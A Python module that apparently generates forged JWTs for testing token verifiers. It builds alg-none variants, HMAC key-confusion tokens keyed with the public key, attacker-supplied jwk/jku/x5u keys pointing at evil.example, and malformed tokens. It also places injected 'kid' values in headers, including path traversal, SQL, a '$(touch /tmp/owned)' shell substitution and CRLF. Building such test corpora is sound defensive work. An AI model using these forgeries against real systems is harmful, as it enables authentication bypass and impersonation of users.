"""Every known way to forge a JWT, given a genuine one and the public key that verifies it."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterator, Mapping
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ec import ECDSA
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.jwk import ECKey, OctKey, import_key

ATTACKER = ECKey.generate_key("P-256", {"kid": "attacker"})
ELSEWHERE = "https://evil.example/keys.json"

BAD_KIDS = {
    "a path": "../../../../../../dev/null",
    "an absolute path": "/dev/null",
    "an address": "https://evil.example/key",
    "SQL": "x' UNION SELECT 'c2VjcmV0' --",
    "a shell word": "$(touch /tmp/owned)",
    "NUL": "key\x00",
    "a line break": "key\r\nX-Injected: 1",
    "ten kilobytes": "k" * 10_000,
    "unicode": "\u0430\u202e\U0001f511",
    "empty": "",
}


def segment(raw: bytes | str) -> str:
    """Base64url without padding."""
    data = raw.encode() if isinstance(raw, str) else raw
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def parts_of(token: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """Header, claims and signature segment."""
    header, payload, signature = token.split(".")
    return (*(json.loads(base64.urlsafe_b64decode(part + "==")) for part in (header, payload)), signature)


def compact(header: Mapping[str, Any] | str, claims: Mapping[str, Any] | str, signature: str = "") -> str:
    """A compact JWS put together by hand."""
    texts = (part if isinstance(part, str) else json.dumps(part) for part in (header, claims))
    return ".".join((*map(segment, texts), signature))


def symmetric(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes, algorithm: str) -> str:
    """A token under an HMAC algorithm, with whatever bytes as key."""
    unsigned = ".".join((segment(json.dumps({**header, "alg": algorithm})), segment(json.dumps(claims))))
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[algorithm]
    return f"{unsigned}.{segment(hmac.new(key, unsigned.encode(), digest).digest())}"


def without_signature(token: str) -> Iterator[tuple[str, str]]:
    """`none` in all its spellings, empty keys, other serialisations (RFC 8725 §2.1, §3.1)."""
    header, claims, signature = parts_of(token)
    for spelling in ("none", "None", "NONE", "nOnE", "none ", "", None, False, 0, [], ["none"]):
        yield f"alg {spelling!r}", compact({**header, "alg": spelling}, claims)
        yield f"alg {spelling!r}, old signature", compact({**header, "alg": spelling}, claims, signature)
    yield "no alg", compact({name: header[name] for name in header if name != "alg"}, claims)
    yield "empty signature", compact(header, claims)
    yield "HMAC with an empty key", symmetric(header, claims, b"", "HS256")
    head, body, _ = token.split(".")
    yield "two segments", f"{head}.{body}"
    yield "four segments", f"{token}.{signature}"
    yield "flattened JSON", json.dumps({"protected": head, "payload": body, "signature": signature})
    yield "unsigned general JSON", json.dumps({"payload": body, "signatures": []})
    yield "unsigned flattened JSON", json.dumps({"header": {"alg": "none"}, "payload": body})
    yield "an encrypted token", f"{segment(json.dumps({'alg': 'dir', 'enc': 'A256GCM'}))}..x.{body}.x"


def with_public_key_as_secret(token: str, public_jwk: Mapping[str, Any]) -> Iterator[tuple[str, str]]:
    """RS256/ES256 turned into HS256: the public key, in every encoding, as the shared secret."""
    header, claims, _ = parts_of(token)
    public = import_key(dict(public_jwk)).public_key  # type: ignore[union-attr]
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    encodings = {
        "PEM": pem,
        "PEM without its last line break": pem.rstrip(),
        "PEM without line breaks": pem.replace(b"\n", b""),
        "PEM after a line break": b"\n" + pem,
        "PEM after a byte order mark": b"\xef\xbb\xbf" + pem,
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": json.dumps(dict(public_jwk)).encode(),
        "JWK without spaces": json.dumps(dict(public_jwk), separators=(",", ":")).encode(),
        "the first coordinate": base64.urlsafe_b64decode(
            str(public_jwk.get("x") or public_jwk.get("n")) + "=="
        ),
        "kid": str(public_jwk.get("kid")).encode(),
    }
    for algorithm in ("HS256", "HS384", "HS512"):
        for name, key in encodings.items():
            yield f"{algorithm} with {name}", symmetric(header, claims, key, algorithm)


def with_key_of_its_own(token: str) -> Iterator[tuple[str, str]]:
    """A header that brings, or points to, the key to verify it with (RFC 8725 §2.8)."""
    header, claims, _ = parts_of(token)
    public = ATTACKER.as_dict(private=False)
    brought = {
        "jwk": {"jwk": public},
        "jku": {"jku": ELSEWHERE},
        "x5u": {"x5u": "https://evil.example/chain.pem"},
        "x5c": {"x5c": [segment(b"certificate")]},
        "jwk and jku": {"jwk": public, "jku": ELSEWHERE},
        "jwk, our kid": {"jwk": {**public, "kid": header.get("kid")}},
        "nothing but another key": {},
        "another key, its own kid": {"kid": "attacker"},
        "another key, no kid": {"kid": None},
    }
    for name, members in brought.items():
        yield name, signed_anyhow({**header, "alg": "ES256", **members}, claims)
    shared = OctKey.import_key(b"0123456789abcdef0123456789abcdef")
    members = {**header, "jwk": shared.as_dict(private=True)}
    yield "a shared secret as jwk", symmetric(members, claims, shared.raw_value, "HS256")


def with_strange_kid(token: str) -> Iterator[tuple[str, str]]:
    """`kid` as a path, an address, a query, too long, or no text at all."""
    header, claims, signature = parts_of(token)
    for name, kid in BAD_KIDS.items():
        yield f"kid is {name}", signed_anyhow({**header, "alg": "ES256", "kid": kid}, claims)
        yield f"kid is {name}, old signature", compact({**header, "kid": kid}, claims, signature)
    for kid in (None, 1, ["a"], {"a": "b"}, True):
        yield f"kid is {kid!r}", compact({**header, "kid": kid}, claims, signature)


def with_extension(token: str, key: Any) -> Iterator[tuple[str, str]]:
    """`crit` with something we do not know, or malformed (RFC 7515 §4.1.11); genuinely signed where `key` is given."""
    header, claims, signature = parts_of(token)
    for name, members in {
        "unknown extension": {"crit": ["urn:example:unknown"], "urn:example:unknown": True},
        "empty crit": {"crit": []},
        "crit names a standard member": {"crit": ["alg"]},
        "crit is a string": {"crit": "exp"},
        "unencoded payload": {"crit": ["b64"], "b64": False},
        "b64 alone": {"b64": False},
        "zip": {"zip": "DEF"},
    }.items():
        changed = {**header, **members}
        yield name, signed_anyhow(changed, claims, key) if key else compact(changed, claims, signature)
    if key:
        twice = json.dumps(header)[:-1] + ', "typ": "JWT", "typ": "JWT"}'
        yield "a member twice, signed", signed_anyhow(twice, claims, key)


def damaged(token: str) -> Iterator[tuple[str, str]]:
    """The genuine token with one thing changed, or spelt another way."""
    header, claims, signature = parts_of(token)
    head, body, _ = token.split(".")
    yield "another claim", compact(header, {**claims, "sub": "somebody-else"}, signature)
    yield "a longer signature", token + "AA"
    yield "a shorter signature", token[:-4]
    yield "padding", f"{token}=="
    yield "a space before", f" {token}"
    yield "a line break inside", f"{head}.{body}.\n{signature}"
    yield "other spelling of the header", compact(json.dumps({"x": 1, **header}), claims, signature)
    yield "a member twice", compact('{"alg":"none",' + json.dumps(header)[1:], claims, signature)
    yield "not JSON", compact("alg", "sub", signature)
    yield "JSON of another shape", compact("[]", "[]", signature)
    yield "deep JSON", compact("[" * 2_000 + "]" * 2_000, claims, signature)
    yield "NaN", compact(header, '{"exp": NaN}', signature)
    yield "all zero signature", f"{head}.{body}.{segment(bytes(64))}"
    yield "not base64", f"{head}.{body}.***"
    yield "not ASCII", f"{head}.{body}.\u0430"
    yield "dots", ".."
    yield "nothing in it", "..."


def signed_anyhow(header: Mapping[str, Any] | str, claims: Mapping[str, Any], key: Any = ATTACKER) -> str:
    """A good signature under any header, however little sense it makes."""
    unsigned = compact(header, claims).removesuffix(".")
    return f"{unsigned}.{segment(raw_signature(unsigned.encode(), key))}"


def raw_signature(message: bytes, key: Any) -> bytes:
    """ES256 over bytes that no library would sign."""
    r, s = decode_dss_signature(key.private_key.sign(message, ECDSA(SHA256())))
    return r.to_bytes(32) + s.to_bytes(32)


def every_forgery(token: str, public_jwk: Mapping[str, Any], key: Any = None) -> dict[str, str]:
    """Name → forged token. `key` is the genuine private key, when the attacker is the client itself."""
    return dict(
        (
            *without_signature(token),
            *with_public_key_as_secret(token, public_jwk),
            *with_key_of_its_own(token),
            *with_strange_kid(token),
            *with_extension(token, key),
            *damaged(token),
        )
    )
